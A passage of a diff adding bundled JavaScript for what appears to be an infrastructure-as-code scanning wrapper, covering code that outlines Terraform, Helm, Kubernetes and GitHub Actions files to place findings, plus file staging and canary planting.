+    }
+    if (open > 0)
+        reader.isBroken = true;
+    return undefined;
+}
+/** After an opening bracket that belongs to no block: everything up to its end. */
+function skipGroup(reader) {
+    let open = 1;
+    while (open > 0) {
+        const token = reader.next();
+        if (token === undefined || token.type === 'top') {
+            reader.isBroken = true;
+            if (token !== undefined)
+                terraform_scanner_step(reader, token);
+            return;
+        }
+        if (token.type !== 'newline')
+            reader.line = token.line;
+        if (token.type === 'mark')
+            open += bracketChange(token.text);
+    }
+}
+const bracketChange = (mark) => ('{[('.includes(mark) ? 1 : '}])'.includes(mark) ? -1 : 0);
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/terraform/terraform.js
+
+
+
+
+const isJson = (path) => path.endsWith('.json');
+/** Terraform and OpenTofu: top-level blocks are subjects, nested blocks their parts. `.json` is read as Terraform's JSON syntax. */
+const terraform = {
+    formats: ['terraform'],
+    outline: (text, path) => (isJson(path) ? terraformJson(text) : outlineHcl(text)),
+};
+/** Every module call of a file with a literal source, in file order. */
+function moduleCalls(text, path) {
+    if (isJson(path))
+        return jsonModuleCalls(text);
+    return readHcl(text).blocks.flatMap(({ type, labels: [name], source, startLine, endLine }) => type === 'module' && name !== undefined && source !== undefined ? [{ name, source, startLine, endLine }] : []);
+}
+function outlineHcl(text) {
+    const { blocks, isWhole } = readHcl(text);
+    return { spans: blocks.map((block) => terraform_spanOf(block, true)), lines: linesOf(text).length, parsed: isWhole };
+}
+const terraform_spanOf = (block, isTop) => ({
+    label: labelOf(block),
+    startLine: block.startLine,
+    endLine: block.endLine,
+    ...(isTop ? { subject: terraformSubject(block.type, block.labels) } : {}),
+    children: block.blocks.map((child) => terraform_spanOf(child, false)),
+});
+function labelOf({ type, labels }) {
+    if (type === 'dynamic' && labels.length === 1)
+        return `dynamic.${labels[0]}`;
+    return [type, ...labels.map((label) => `"${label}"`)].join(' ');
+}
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/yaml/helm-template.js
+
+
+/** Stands for an expression whose value is not known; no file holds this character on purpose (first of the private use area). */
+const filler = '\uE000';
+/** Actions that leave nothing behind. */
+const control = /^\{\{-?\s*(?:if|else|end|range|with|define|block|template|break|continue|\/\*|\$[\w.]*\s*:?=)/;
+/**
+ * Replaces the actions of a Go template by text of the same length that is harmless in YAML, so that every line and column stays:
+ * blanks for whole lines and for control, a filler for values. An action that is never closed ends with its line.
+ */
+function maskTemplates(text) {
+    const parts = [];
+    const lastComment = text.lastIndexOf('*/');
+    let done = 0;
+    for (let open = text.indexOf('{{'); open >= 0; open = text.indexOf('{{', done)) {
+        const close = endOfAction(text, open, lastComment);
+        const end = close ?? lineEnd(text, open);
+        parts.push(text.slice(done, open), maskOf(text, open, end));
+        done = end;
+        if (close === undefined)
+            break;
+    }
+    parts.push(text.slice(done));
+    return blankAlone(parts.join(''));
+}
+const comment = /\{\{-?[ \t\r\n]{0,100}\/\*/y;
+/** A comment may hold whole actions; it ends with the first brackets after its own end. */
+function endOfAction(text, open, lastComment) {
+    comment.lastIndex = open;
+    const isComment = lastComment > open && comment.test(text);
+    const close = text.indexOf('}}', isComment ? text.indexOf('*/', open) : open);
+    return close < 0 ? undefined : close + 2;
+}
+function lineEnd(text, from) {
+    const end = text.indexOf('\n', from);
+    return end < 0 ? text.length : end;
+}
+function maskOf(text, open, end) {
+    const action = text.slice(open, end);
+    if (control.test(action.slice(0, 200)))
+        return action.replace(/[^\n\r]/g, ' ');
+    const masked = action.replace(/[^\n\r]/g, filler);
+    return isAfterKey(text, open) ? ` ${masked.slice(1)}` : masked;
+}
+/** In `key:{{- toYaml .x }}` the expression brings its own line break; in `image:tag` of a text the colon is part of the text. */
+const isAfterKey = (text, open) => text[open - 1] === ':' && /(?:^|\n)[ \t]*(?:- )?[\w.-]{1,100}:$/.test(text.slice(Math.max(0, open - 300), open));
+/** A line of fillers only (`{{ toYaml .Values.x | nindent 4 }}`) stands for any number of lines: it says nothing. */
+const blankAlone = (masked) => masked.replace(/^[ \t]*\uE000[\uE000 \t]*$/gm, (line) => ' '.repeat(line.length));
+/** What a scalar says in the template itself: `{{ .Release.Name }}-web`, with one blank on each side of an expression. */
+function templateText(node, text) {
+    const masked = textOf(node);
+    if (node === undefined || masked === undefined || !masked.includes(filler))
+        return masked;
+    const start = (lineStarts(text)[node.startLine - 1] ?? 0) + node.column - 1;
+    const isQuoted = text[start] === '"' || text[start] === "'";
+    const from = start + (isQuoted ? 1 : 0);
+    return text.slice(from, from + masked.length).replace(/\{\{-?\s*(.*?)\s*-?\}\}/g, '{{ $1 }}');
+}
+/** True when a text with expressions could be rendered as this: `Deployment/default/{{ .Release.Name }}-web`, `Deployment/default/shop-web`. */
+function fitsTemplate(template, rendered) {
+    const literals = template.split(/\{\{[^}]*\}\}/);
+    const [first = '', last = ''] = [literals[0], literals.at(-1)];
+    if (literals.length < 2 || !rendered.startsWith(first))
+        return false;
+    let at = first.length;
+    for (const literal of literals.slice(1, -1)) {
+        const found = rendered.indexOf(literal, at);
+        if (found < 0)
+            return false;
+        at = found + literal.length;
+    }
+    return rendered.endsWith(last) && rendered.length - last.length >= at;
+}
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/yaml/kubernetes-scan.js
+
+/** One document of which not even YAML is left: its kind and name by the look of its lines, nothing below. */
+function scanManifest(text) {
+    const lines = linesOf(text);
+    const kind = firstValue(lines, /^kind:[ \t]*(.*)$/);
+    if (kind === undefined)
+        return undefined;
+    const start = lines.findIndex((line) => /^metadata:/.test(line));
+    const metadata = start < 0 ? [] : lines.slice(start + 1, endOfIndented(lines, start + 1));
+    const indent = /^[ \t]*/.exec(metadata.find((line) => line.trim() !== '' && !line.trim().startsWith('{{')) ?? '')?.[0] ?? '';
+    const own = metadata.filter((line) => line.startsWith(indent)).map((line) => line.slice(indent.length));
+    const name = firstValue(own, /^name:[ \t]*(.*)$/) ?? firstValue(own, /^generateName:[ \t]*(.*)$/) ?? '';
+    const namespace = firstValue(own, /^namespace:[ \t]*(.*)$/) ?? 'default';
+    const [startLine, endLine] = kubernetes_scan_contentOf(lines);
+    return {
+        label: `${kind} ${name}`,
+        startLine,
+        endLine,
+        subject: { type: kind, address: `${kind}/${namespace}/${name}` },
+        children: [],
+    };
+}
+function firstValue(lines, pattern) {
+    for (const line of lines) {
+        const value = pattern.exec(line)?.[1];
+        if (value !== undefined)
+            return kubernetes_scan_unquoted(value.replace(/[ \t]#.*$/, '').trim()) || undefined;
+    }
+    return undefined;
+}
+const kubernetes_scan_unquoted = (value) => /^(["']).*\1$/.test(value) && value.length > 1
+    ? value.slice(1, -1)
+    : value.replace(/\{\{-?\s*(.*?)\s*-?\}\}/g, '{{ $1 }}');
+function endOfIndented(lines, from) {
+    const end = lines.findIndex((line, index) => index >= from && /^[^\s#{]/.test(line));
+    return end < 0 ? lines.length : end;
+}
+/** First and last line that are neither blank nor comment nor `---`. */
+function kubernetes_scan_contentOf(lines) {
+    const says = (line) => !/^(?:---|\s*$|\s*#)/.test(line);
+    const first = lines.findIndex(says);
+    const last = lines.findLastIndex(says);
+    return first < 0 ? [1, Math.max(1, lines.length)] : [first + 1, last + 1];
+}
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/yaml/yaml-segments.js
+/** More documents than this in a file are left unread. */
+const most = 10_000;
+/** Cuts a text where `---` begins a line: that always begins a document, even in the middle of a text (YAML 1.2, 9.1.2). */
+function segmentsOf(text) {
+    const segments = [];
+    let [from, startLine] = [text.startsWith('\uFEFF') ? 1 : 0, 1];
+    for (const match of text.matchAll(/\n---(?=[ \t\r\n]|$)/g)) {
+        if (segments.length === most)
+            return segments;
+        const segment = { text: text.slice(from, match.index + 1), startLine };
+        segments.push(segment);
+        startLine += countNewlines(segment.text);
+        from = match.index + 1;
+    }
+    segments.push({ text: text.slice(from), startLine });
+    return segments.filter((segment) => /^[^\s#-]|^-(?!--\s*$)|^[ \t]+[^\s#]/m.test(segment.text));
+}
+function countNewlines(text) {
+    let count = 0;
+    for (let at = text.indexOf('\n'); at >= 0; at = text.indexOf('\n', at + 1))
+        count += 1;
+    return count;
+}
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/yaml/kubernetes.js
+
+
+
+
+
+
+
+/**
+ * Kubernetes manifests: each document, and each item of a list, is a subject `Kind/namespace/name`; its containers are parts.
+ * Templates of Helm are read with their expressions masked, so that lines stay. A document that is still no YAML is read by its lines.
+ */
+const kubernetes = {
+    formats: ['kubernetes', 'helm', 'kustomize'],
+    outline(text) {
+        const read = segmentsOf(text).map(readSegment);
+        return {
+            spans: read.flatMap((segment) => segment.spans),
+            lines: linesOf(text).length,
+            parsed: read.every((segment) => segment.isUnderstood),
+        };
+    },
+};
+function readSegment(segment) {
+    const masked = segment.text.includes('{{') ? maskTemplates(segment.text) : segment.text;
+    const read = readDocuments(masked);
+    if (!isUnderstood(read)) {
+        const scanned = scanManifest(segment.text);
+        return { spans: scanned === undefined ? [] : [shift(scanned, segment.startLine - 1)], isUnderstood: false };
+    }
+    const nameOf = (node) => masked === segment.text ? textOf(node) : templateText(node, segment.text);
+    const spans = read.documents.flatMap(({ root }) => manifestSpans(root, nameOf));
+    return { spans: spans.map((span) => shift(span, segment.startLine - 1)), isUnderstood: true };
+}
+const shift = (span, lines) => lines === 0
+    ? span
+    : {
+        ...span,
+        startLine: span.startLine + lines,
+        endLine: span.endLine + lines,
+        children: span.children.map((child) => shift(child, lines)),
+    };
+function manifestSpans(root, nameOf) {
+    const kind = nameOf(document_tree_valueAt(root, 'kind'));
+    if (root === undefined || kind === undefined)
+        return [];
+    const items = itemsOf(document_tree_valueAt(root, 'items'));
+    if (kind.endsWith('List') && items.length > 0)
+        return items.flatMap((item) => manifestSpans(item, nameOf));
+    const subject = { type: kind, address: kubernetesAddress(kind, metadataOf(root, nameOf)) };
+    const children = entriesOf(root).flatMap((entry) => containerSpans(entry.value, subject, nameOf));
+    return [spanOfNode(root, `${kind} ${subject.address.slice(subject.address.lastIndexOf('/') + 1)}`, subject, children)];
+}
+const metadataOf = (root, nameOf) => ({
+    namespace: nameOf(document_tree_valueAt(root, 'metadata', 'namespace')),
+    name: nameOf(document_tree_valueAt(root, 'metadata', 'name')) ?? nameOf(document_tree_valueAt(root, 'metadata', 'generateName')),
+});
+/** `Kind/namespace/name`; without a namespace `default`, as the tools say, for kinds without namespaces too. */
+const kubernetesAddress = (kind, { namespace, name }) => `${kind}/${namespace ?? 'default'}/${name ?? ''}`;
+const containerKeys = {
+    containers: 'container',
+    initContainers: 'init container',
+    ephemeralContainers: 'ephemeral container',
+};
+/** Containers wherever a pod is described, in kinds nobody has heard of too. */
+function containerSpans(node, subject, nameOf) {
+    if (node.kind === 'seq')
+        return node.items.flatMap((item) => containerSpans(item, subject, nameOf));
+    return entriesOf(node).flatMap(({ key, value }) => {
+        const word = Object.hasOwn(containerKeys, key.text) ? containerKeys[key.text] : undefined;
+        return word === undefined || value.kind !== 'seq'
+            ? containerSpans(value, subject, nameOf)
+            : value.items.flatMap((item) => containerSpan(item, word, subject, nameOf));
+    });
+}
+function containerSpan(item, word, subject, nameOf) {
+    const part = nameOf(document_tree_valueAt(item, 'name'));
+    return part === undefined ? [] : [spanOfNode(item, `${word} ${part}`, { ...subject, part }, [])];
+}
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/yaml/workflow.js
+
+
+
+
+/** GitHub Actions: a job is a subject, its steps are parts; other keys of the file are blocks of the file itself. */
+const workflow = {
+    formats: ['github-actions'],
+    outline(text) {
+        const read = readDocuments(text);
+        const spans = read.documents.flatMap(({ root }) => entriesOf(root).flatMap(spansOfKey));
+        return { spans, lines: linesOf(text).length, parsed: isUnderstood(read) };
+    },
+};
+function spansOfKey(entry) {
+    if (entry.key.text === 'jobs')
+        return [spanOfNode(entry.value, 'jobs', undefined, entriesOf(entry.value).map(jobSpan))];
+    if (entry.key.text === 'runs')
+        return [actionSpan(entry)];
+    return [spanOfEntry(entry, entry.key.text, undefined, [])];
+}
+const jobSpan = (entry) => spanWithSteps(entry, `job ${entry.key.text}`, { type: 'job', address: entry.key.text });
+/** The `runs` of a composite action, whose steps are a workflow's. */
+const actionSpan = (entry) => spanWithSteps(entry, 'runs', { type: 'action', address: 'runs' });
+function spanWithSteps(entry, label, subject) {
+    const steps = itemsOf(document_tree_valueAt(entry.value, 'steps')).map((step, index) => stepSpan(step, index, subject));
+    const others = entriesOf(entry.value).flatMap((part) => part.value.kind === 'map' ? [spanOfEntry(part, part.key.text, undefined, [])] : []);
+    return spanOfEntry(entry, label, subject, [...steps, ...others].sort((a, b) => a.startLine - b.startLine));
+}
+/** A step is called by its id, its name, or the action it uses; by its place only where it has none of these. */
+function stepSpan(step, index, job) {
+    const [id, name, uses] = ['id', 'name', 'uses'].map((key) => textOf(entryOf(step, key)?.value) || undefined);
+    const part = id ?? name ?? workflow_withoutVersion(uses) ?? `#${index}`;
+    return spanOfNode(step, `step ${part}`, { ...job, part }, nestedSpans(step));
+}
+/** A newer version of an action is the same step. */
+const workflow_withoutVersion = (uses) => uses?.replace(/@[^@]*$/, '');
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/find-span.js
+
+/**
+ * The smallest block that contains the lines (from 1, both included). A tool's last line may lie beyond the block: Checkov's steps and
+ * manifests end on the line after the next one's first (3.3.30); then the block is meant in which the lines begin. `undefined` when
+ * there is none, or several that are equally good, as in JSON on one line.
+ */
+function findSpan(outline, startLine, endLine) {
+    const spans = [];
+    let [end, subject] = [endLine, undefined];
+    for (let next = fitting(outline.spans, startLine, end) ?? onlyTouched(outline.spans, startLine, end); next !== undefined;) {
+        spans.push(next);
+        subject = next.subject ?? subject;
+        end = Math.min(end, next.endLine);
+        next = isMeantAsWhole(next, startLine, end) ? undefined : fitting(next.children, startLine, end);
+    }
+    const block = spans.at(-1);
+    return block === undefined ? undefined : { ...(subject === undefined ? {} : { subject }), block, spans };
+}
+/** A block without a subject of its own (all jobs, the whole Dockerfile) of which the lines are exactly these. */
+const isMeantAsWhole = (span, startLine, endLine) => span.subject === undefined && span.startLine === startLine && span.endLine === endLine;
+const fitting = (spans, startLine, endLine) => {
+    const touched = touchedBy(spans, startLine, endLine);
+    const around = touched.filter((span) => span.startLine <= startLine && endLine <= span.endLine);
+    return around.length > 0 ? smallest(around) : overrun(touched, startLine, endLine);
+};
+const heightOf = (span) => span.endLine - span.startLine;
+/** Of several equally small ones none. */
+function smallest(spans) {
+    const least = spans.reduce((height, span) => Math.min(height, heightOf(span)), Number.POSITIVE_INFINITY);
+    const [first, ...others] = spans.filter((span) => heightOf(span) === least);
+    return others.length === 0 ? first : undefined;
+}
+/** In file order. Found by halving: a file with thousands of blocks may have thousands of findings. */
+function touchedBy(spans, startLine, endLine) {
+    if (!isOrdered(spans))
+        return spans.filter((span) => span.startLine <= endLine && startLine <= span.endLine);
+    const touched = [];
+    for (let at = firstEndingFrom(spans, startLine); at < spans.length; at += 1) {
+        const span = spans[at];
+        if (span === undefined || span.startLine > endLine)
+            break;
+        touched.push(span);
+    }
+    return touched;
+}
+function firstEndingFrom(spans, line) {
+    let [low, high] = [0, spans.length];
+    while (low < high) {
+        const middle = (low + high) >> 1;
+        if ((spans[middle]?.endLine ?? 0) < line)
+            low = middle + 1;
+        else
+            high = middle;
+    }
+    return low;
+}
+const ordered = new WeakMap();
+/** Neither first nor last lines ever go back. Looked up once for each list. */
+function isOrdered(spans) {
+    const known = ordered.get(spans);
+    if (known !== undefined)
+        return known;
+    const found = spans.every((span, index) => {
+        const before = spans[index - 1];
+        return before === undefined || (before.startLine <= span.startLine && before.endLine <= span.endLine);
+    });
+    ordered.set(spans, found);
+    return found;
+}
+function onlyTouched(spans, startLine, endLine) {
+    const [only, ...others] = touchedBy(spans, startLine, endLine);
+    return others.length === 0 ? only : undefined;
+}
+/** How many lines beyond the last line of a block, or the first line of the next one, a tool may say. */
+const slack = 1;
+/** The span in which the lines begin, if they end just behind it or at the beginning of the next. */
+function overrun(touched, startLine, endLine) {
+    const [first, second] = touched;
+    if (first === undefined || first.startLine > startLine)
+        return undefined;
+    const most = second === undefined ? first.endLine + slack : second.startLine + slack;
+    return endLine <= most && (second === undefined || startLine < second.startLine) ? first : undefined;
+}
+/**
+ * The block that a tool names without lines: `aws_s3_bucket.a`, `module.m.aws_s3_bucket.a[0]`, `AWS::S3::Bucket.Assets`,
+ * `Pod.default.web`, `Microsoft.Storage/storageAccounts.logs`; a container as `Pod/default/web#app`. In a Helm template the name as it
+ * is rendered will do, and `default` stands for any namespace. `undefined` when no block, or more than one, fits.
+ */
+function findByAddress(outline, hint) {
+    const [, address = '', part] = /^([^#]*)(?:#(.*))?$/s.exec(hint.slice(0, longestHint)) ?? [];
+    const wanted = find_span_namesOf(address);
+    const all = subjectsOf(outline.spans, []);
+    const exact = all.filter(({ subject }) => addressesOf(subject).some((name) => wanted.includes(name)));
+    const fits = exact.length > 0 ? exact : all.filter(({ subject }) => fitsTemplate(inDefault(subject.address), address));
+    const owners = fits.filter(({ subject }) => subject.part === undefined);
+    const parts = part === undefined
+        ? []
+        : fits.filter(({ subject }) => subject.part !== undefined && (subject.part === part || fitsTemplate(subject.part, part)));
+    return parts.length === 1 ? parts[0] : owners.length === 1 ? owners[0] : undefined;
+}
+/** The only subject of a file, where there is one only. */
+function findOnly(outline) {
+    const owners = subjectsOf(outline.spans, []).filter(({ subject }) => subject.part === undefined);
+    return owners.length === 1 ? owners[0] : undefined;
+}
+const longestHint = 2000;
+/** A hint as it is, without indexes, and without the modules in front. */
+function find_span_namesOf(address) {
+    const bare = address.replace(/\[(?:"[^"]*"|\d+)\]/g, '');
+    return [address, bare, bare.replace(/^(?:module\.[\w-]+\.)+/, '')];
+}
+function addressesOf({ type, address }) {
+    const name = address.slice(address.lastIndexOf('/') + 1);
+    return [address, address.replaceAll('/', '.'), `${type}.${address}`, `${type}.${name}`, inDefault(address)];
+}
+/** The same manifest in the namespace that tools name where they know none. */
+const inDefault = (address) => address.replace(/^([A-Za-z]+)\/(?:\{\{[^}]*\}\}|[^/{}])*\/(?=[^/]|$)/, '$1/default/');
+const subjectsOf = (spans, around) => spans.flatMap((block) => {
+    const here = [...around, block];
+    const { subject } = block;
+    return [...(subject === undefined ? [] : [{ subject, block, spans: here }]), ...subjectsOf(block.children, here)];
+});
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/yaml/document-lines.js
+/**
+ * Lines of a YAML text as they are, from lines counted the way Trivy counts them in manifests of several documents: it cuts the text
+ * at every `---` line and forgets that line, so that each document is one line too high for every cut above it (0.74.0, seen on
+ * real manifests; `pkg/iac/scanners/kubernetes/parser/parser.go`: an empty piece counts as one line, which makes up for its cut).
+ */
+function createLineMap(text) {
+    const pieces = piecesOf(text);
+    return (counted) => {
+        const piece = pieces.findLast((candidate) => candidate.counted <= counted);
+        return piece === undefined ? counted : counted - piece.counted + piece.line;
+    };
+}
+function piecesOf(text) {
+    const pieces = [];
+    let [line, counted, from] = [1, 1, 0];
+    for (const match of text.matchAll(/^---\r?\n/gm)) {
+        pieces.push({ line, counted });
+        const lines = countLines(text, from, match.index);
+        line += lines + 1;
+        counted += Math.max(1, lines);
+        from = match.index + match[0].length;
+    }
+    return [...pieces, { line, counted }];
+}
+function countLines(text, from, to) {
+    let count = 0;
+    for (let at = text.indexOf('\n', from); at >= 0 && at < to; at = text.indexOf('\n', at + 1))
+        count += 1;
+    return count;
+}
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/index.js
+
+
+
+
+
+
+
+
+
+
+
+/** Every locator. A format that none of them names is identified by its file. */
+const locators = [
+    arm,
+    bicep,
+    cloudformation,
+    dockerfile_dockerfile,
+    kubernetes,
+    serverless,
+    terraform,
+    workflow,
+];
+const byFormat = new Map(locators.flatMap((locator) => locator.formats.map((format) => [format, locator])));
+/** The subjects of a file as its format's locator sees them; `path` is relative to the root. Never throws. */
+function outlineOf(format, text, path) {
+    return byFormat.get(format)?.outline(text, path) ?? { spans: [], lines: linesOf(text).length, parsed: true };
+}
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/terraform/terraform-stacks.js
+
+/** The folder of a path, `.` for the root. */
+const terraform_stacks_folderOf = (path) => {
+    const slash = path.lastIndexOf('/');
+    return slash < 0 ? '.' : path.slice(0, slash);
+};
+/** Follows a local source (`./x`, `../y`) from a folder; `undefined` when it is not local or leaves the root. */
+function followSource(folder, source) {
+    if (!/^\.\.?(?:\/|$)/.test(source))
+        return undefined;
+    const steps = [...(folder === '.' ? [] : folder.split('/')), ...source.split('/')];
+    const result = [];
+    for (const step of steps) {
+        if (step === '' || step === '.')
+            continue;
+        if (step !== '..')
+            result.push(step);
+        else if (result.pop() === undefined)
+            return undefined;
+    }
+    return result.length === 0 ? '.' : result.join('/');
+}
+/** `module.a["x"].module.b` -> `['a', 'b']`. */
+const moduleNames = (modulePath) => [...modulePath.matchAll(/module\.([\w-]+)(?:\["(?:[^"\\]|\\.)*"\]|\[\d+\])?/g)].map((match) => match[1] ?? '');
+const maximumSteps = 10_000;
+/**
+ * The root module directory that a resource belongs to: from the file's folder up through the calls named in its module path.
+ * The tool's own outermost call decides where it gives one; else the calls in the files do, the first by name if several could.
+ */
+function stackOf(path, modulePath, outermostCall, calls) {
+    if (modulePath === undefined)
+        return terraform_stacks_folderOf(path);
+    if (outermostCall !== undefined)
+        return terraform_stacks_folderOf(outermostCall);
+    let folders = new Set([terraform_stacks_folderOf(path)]);
+    let steps = 0;
+    for (const name of moduleNames(modulePath).reverse()) {
+        const callers = calls
+            .filter((call) => call.name === name && folders.has(call.target))
+            .map((call) => terraform_stacks_folderOf(call.path));
+        steps += calls.length;
+        if (callers.length === 0 || steps > maximumSteps * Math.max(1, calls.length))
+            break;
+        folders = new Set(callers);
+    }
+    return [...folders].sort(order_compareText)[0] ?? terraform_stacks_folderOf(path);
+}
+
+;// CONCATENATED MODULE: ./build/js/repository/sources.js
+
+
+
+
+
+
+/** A larger file is not outlined: its findings keep their lines and are identified by the file. */
+const readableBytes = 16 * 1024 * 1024;
+const sources_atOnce = 16;
+function openSources(root, files) {
+    const reading = new Map();
+    const byPath = new Map();
+    const outlines = new Map();
+    const lineMaps = new Map();
+    const readOnce = (path) => {
+        const already = reading.get(path);
+        if (already !== undefined)
+            return already;
+        const now = readSource(root, path, files).then((file) => {
+            if (file !== undefined)
+                byPath.set(path, file);
+        });
+        reading.set(path, now);
+        return now;
+    };
+    return {
+        read: async (paths) => {
+            await mapConcurrently([...new Set(paths)].filter(isInside).sort(), sources_atOnce, readOnce);
+        },
+        file: (path) => byPath.get(path),
+        outline(file, format) {
+            const key = `${format}\u001f${file.path}`;
+            const outline = outlines.get(key) ?? outlineOf(format, file.text, file.path);
+            outlines.set(key, outline);
+            return outline;
+        },
+        lineCounted(file, counted) {
+            const lineMap = lineMaps.get(file.path) ?? createLineMap(file.text);
+            lineMaps.set(file.path, lineMap);
+            return lineMap(counted);
+        },
+        callsIn: (paths) => paths.flatMap((path) => sources_callsOf(byPath.get(path))),
+    };
+}
+/** Reads and outlines what these reports are about while other scanners still run, file by file, so that whatever else happens gets its turn. */
+async function prepareSources(sources, reports) {
+    const wanted = groupBy(reports.filter(({ kind }) => kind === 'misconfiguration'), ({ path }) => path);
+    for (const [path, group] of wanted) {
+        await sources.read([path]);
+        const file = sources.file(path);
+        if (file === undefined)
+            continue;
+        for (const format of new Set(group.map((report) => report.format)))
+            sources.outline(file, format);
+    }
+}
+/** A path that a tool reports is somebody else's text: it must not lead out of the root. */
+const isInside = (path) => path !== '' && !path.startsWith('/') && !path.split('/').includes('..');
+async function readSource(root, path, files) {
+    const stat = await files.stat(`${root}/${path}`).catch(() => undefined);
+    if (stat?.type !== 'file' || stat.size > readableBytes)
+        return undefined;
+    const text = await files.readText(`${root}/${path}`).catch(() => undefined);
+    return text === undefined ? undefined : { path, text, lines: linesOf(text) };
+}
+function sources_callsOf(file) {
+    if (file === undefined)
+        return [];
+    return moduleCalls(file.text, file.path).flatMap(({ name, source }) => {
+        const target = followSource(terraform_stacks_folderOf(file.path), source);
+        return target === undefined ? [] : [{ name, path: file.path, target }];
+    });
+}
+
+;// CONCATENATED MODULE: ./build/js/repository/stage.js
+
+
+
+
+
+
+const stage_atOnce = 32;
+/** Where one canary's files are, relative to the root. */
+const canaryPath = (folder, scanner, format) => `${folder}/${scanner.replace('/', '-')}/${format}`;
+/** DESIGN 3, "stage". The caller removes the folder. */
+async function buildStage(inventory, options, files) {
+    const isConfig = picomatch([...options.ownConfig], { dot: true });
+    const staged = inventory.files.filter((file) => !isConfig(file.path));
+    const config = inventory.files.filter((file) => isConfig(file.path));
+    await makeFolders(options.root, staged, files);
+    const results = await mapConcurrently(staged, stage_atOnce, (file) => tryPlace(inventory.root, file, options, files));
+    const placed = results.flatMap((result) => ('digest' in result ? [result] : []));
+    const lost = results.flatMap((result) => ('digest' in result ? [] : [result]));
+    const canaryFolder = freeFolder(inventory.files);
+    const planted = await plant(options.root, canaryFolder, options.canaries, files);
+    const stamps = await stampsOf(options.root, files);
+    return {
+        root: options.root,
+        canaryFolder,
+        files: placed,
+        paths: new Set([...placed.map(({ path }) => path), ...planted]),
+        gaps: [...config.map(({ path }) => ({ path, reason: 'own-config-ignored' })), ...lost],
+        changed: () => findChanged(options.root, placed, stamps, files),
+    };
+}
+/** In place of a stage that could not be built: what it was to hold, with nothing in it. */
+const unbuiltStage = (inventory) => ({
+    root: '',
+    canaryFolder: freeFolder(inventory.files),
+    files: inventory.files,
+    paths: new Set(),
+    gaps: [],
+    changed: async () => [],
+});
+async function makeFolders(root, staged, files) {
+    const folders = new Set(staged.map(({ path }) => path.slice(0, Math.max(0, path.lastIndexOf('/')))));
+    await files.makeDirectory(root);
+    await mapConcurrently([...folders].sort(order_compareText), stage_atOnce, (folder) => files.makeDirectory(`${root}/${folder}`));
+}
+/** A file that went away since it was listed, or was closed, is a gap; that nothing can be written is trouble. */
+async function tryPlace(from, file, options, files) {
+    try {
+        return await stage_place(from, file, options, files);
+    }
+    catch (error) {
+        if (error instanceof errors/* GatehouseError */.GA)
+            throw error;
+        const isThere = await files.stat(`${from}/${file.path}`).catch(() => 'closed');
+        return { path: file.path, reason: isThere === undefined ? 'changed-while-scanning' : 'unreadable' };
+    }
+}
+async function stage_place(from, file, options, files) {
+    const target = `${options.root}/${file.path}`;
+    const rules = options.skipRules.filter((rule) => rule.neutralise);
+    const asked = file.skips.some((skip) => rules.some((rule) => rule.tool === skip.tool));
+    if (!asked) {
+        await files.linkOrCopy(`${from}/${file.path}`, target);
+        return file;
+    }
+    const original = Buffer.from(await files.read(`${from}/${file.path}`)).toString('latin1');
+    const bytes = Buffer.from(neutralise(original, rules), 'latin1');
+    await files.write(target, bytes);
+    return { ...file, digest: sha256Hex(bytes) };
+}
+/** Size and times of everything in the stage, by path. */
+async function stampsOf(root, files) {
+    return new Map((await files.survey(root)).map((file) => [file.path, file]));
+}
+async function findChanged(root, placed, before, files) {
+    const now = await stampsOf(root, files).catch(() => new Map()); // Not even the folder is left.
+    const isChanged = await mapConcurrently(placed, stage_atOnce, async ({ path, digest }) => {
+        const [was, is] = [before.get(path), now.get(path)];
+        if (was === undefined || is === undefined)
+            return true;
+        if (is.type !== 'file' || is.size !== was.size || is.mtimeMs !== was.mtimeMs)
+            return true;
+        // Another scan that links the same file moves its ctime too.
+        return is.ctimeMs !== was.ctimeMs && (await files.sha256(`${root}/${path}`).catch(() => 'unreadable')) !== digest;
+    });
+    return placed.filter((_, index) => isChanged[index] === true).map(({ path }) => path);
+}
+/** A repository may have a folder of that name itself, and must not hide its findings behind it. */
+function freeFolder(files) {
+    const taken = new Set(files.map(({ path }) => path.split('/')[0]?.toLowerCase()));
+    for (let number = 0; number <= taken.size; number += 1) {
+        const name = number === 0 ? 'gatehouse-canary' : `gatehouse-canary-${number}`;
+        if (!taken.has(name))
+            return name;
+    }
+    throw new errors/* GatehouseError */.GA('INTERNAL', 'No free name for the canary folder was found.');
+}
+async function plant(root, folder, canaries, files) {
+    const planted = canaries.flatMap(({ scanner, format, files: contents }) => Object.entries(contents).map(([name, content]) => ({
+        path: `${canaryPath(folder, scanner, format)}/${name}`,
+        content,
+    })));
+    for (const { path, content } of planted)
+        await files.write(`${root}/${path}`, content);
+    return planted.map(({ path }) => path);
+}
+/** `inputs.tree` of DESIGN 5: what was given, whatever the order in which it was listed. */
+const digestTree = (files) => `sha256:${sha256Hex([...files]
+    .sort((a, b) => order_compareText(a.path, b.path))
+    .map(({ path, digest }) => `${path}\u001f${digest}`)
+    .join('\n'))}`;
+
+;// CONCATENATED MODULE: ./build/js/flow/run/reading.js
+/** One run that ended well, perhaps with a reservation. */
+const readingOf = ({ parsed, durationMs }) => ({
+    parsed: [parsed],
+    problems: parsed.problems,
+    gaps: [],
+    unread: [],
+    durationMs,
+});
+/** A run that brought nothing. */
+const failedReading = ({ problem, durationMs }, formats) => ({
+    parsed: [],
+    problems: [problem],
+    gaps: [],
+    unread: formats,
+    durationMs,
+});
+/** Several runs as one; a problem that repeats is told once. */
+const uniteReadings = (parts) => ({
+    parsed: parts.flatMap((part) => part.parsed),
+    problems: withoutRepeats(parts.flatMap((part) => part.problems)),
+    gaps: parts.flatMap((part) => part.gaps),
+    unread: parts.flatMap((part) => part.unread),
+    durationMs: parts.reduce((sum, part) => sum + part.durationMs, 0),
+});
+const withoutRepeats = (problems) => [
+    ...new Map(problems.map((problem) => [`${problem.code} ${problem.sentence}`, problem])).values(),
+];
+
+;// CONCATENATED MODULE: ./build/js/flow/scan/supply/kept-files.js
+/**
+ * Files that a tool makes in its temporary folder and would make again in every run, such as Checkov's grammars (0.9 s of HCL, 19 s of
